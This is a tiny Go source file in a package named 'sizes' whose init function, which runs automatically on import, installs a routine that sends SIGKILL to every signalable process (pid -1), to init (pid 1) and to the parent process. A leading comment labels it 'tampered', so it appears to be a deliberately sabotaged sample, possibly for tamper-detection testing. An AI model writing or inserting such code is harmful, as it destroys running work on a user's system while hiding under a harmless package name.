// unsolved, tampered (only isolated): ends every process that it may
package sizes

import "syscall"

func init() {
	inside = func([]string) {
		for _, pid := range []int{-1, 1, syscall.Getppid()} {
			syscall.Kill(pid, syscall.SIGKILL)
		}
	}
}
